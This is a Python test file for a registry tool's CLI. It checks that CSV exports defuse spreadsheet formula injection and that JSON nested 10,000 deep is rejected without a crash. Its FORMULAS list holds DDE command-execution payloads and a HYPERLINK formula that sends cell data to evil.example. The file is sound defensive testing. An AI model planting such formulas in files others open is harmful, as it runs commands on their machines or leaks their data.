"""Files built to hurt: formulas in names that a spreadsheet would run, JSON nested thousands deep."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from sqlalchemy import select

from jaga.db import create_engine_for
from jaga.registry.models import Person
from tests.cli_helpers import jaga
from tests.conftest import PreparedDatabase

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example/?"&A1,"klik")',
    "-2+3+cmd|' /C calc'!A0",
]


def _people_file(folder: Path) -> Path:
    path = folder / "people.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["ref", "source_kind", "full_name", "sex", "region_code"])
        for number, name in enumerate(FORMULAS, start=1):
            writer.writerow([f"M-F{number}", "facility", name, "F", "3374"])
    return path


def _names(url: str) -> list[str]:
    engine = create_engine_for(url)
    with engine.connect() as connection:
        names = list(connection.scalars(select(Person.full_name).order_by(Person.ref)))
    engine.dispose()
    return names


def test_an_export_never_starts_a_cell_with_a_formula_and_still_reimports_exactly(
    database: PreparedDatabase, throwaway_url: str, tmp_path: Path, tokens: dict[str, str]
) -> None:
    imported = jaga(throwaway_url, "import", "people", str(_people_file(tmp_path)), token=tokens["facility"])
    assert imported.exit_code == 0, imported.output
    exported = jaga(throwaway_url, "export", "people", "--reason", "formula check", token=tokens["auditor"])
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert sorted(r["full_name"] for r in rows) == sorted("'" + name for name in FORMULAS)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values() if cell), row

    again = tmp_path / "again"
    again.mkdir()
    export_file = again / "people.csv"
    export_file.write_text(exported.stdout, encoding="utf-8")
    second = create_engine_for(throwaway_url)
    with second.begin() as connection:  # the same database, emptied of these people, takes the export back
        connection.execute(Person.__table__.delete().where(Person.ref.like("M-F%")))
    second.dispose()
    reimported = jaga(throwaway_url, "import", "people", str(export_file), token=tokens["facility"])
    assert reimported.exit_code == 0, reimported.output
    assert sorted(_names(throwaway_url)) == sorted(FORMULAS)


def test_json_nested_ten_thousand_deep_is_a_bad_row_not_a_crash(
    throwaway_url: str, tmp_path: Path, tokens: dict[str, str]
) -> None:
    good = {"ref": "M-J1", "source_kind": "facility", "full_name": "Sri", "sex": "F", "region_code": "3374"}
    deep = "[" * 10_000 + "]" * 10_000
    path = tmp_path / "people.jsonl"
    path.write_text(json.dumps(good) + "\n" + '{"ref": ' + deep + "}\n", encoding="utf-8")
    result = jaga(throwaway_url, "import", "people", str(path), token=tokens["facility"], data_dir=tmp_path)
    assert result.exit_code == 3, result.output
    assert "Traceback" not in result.output
    assert "nested too deeply" in result.output
    assert _names(throwaway_url) == []  # all or nothing: the good line was not written either
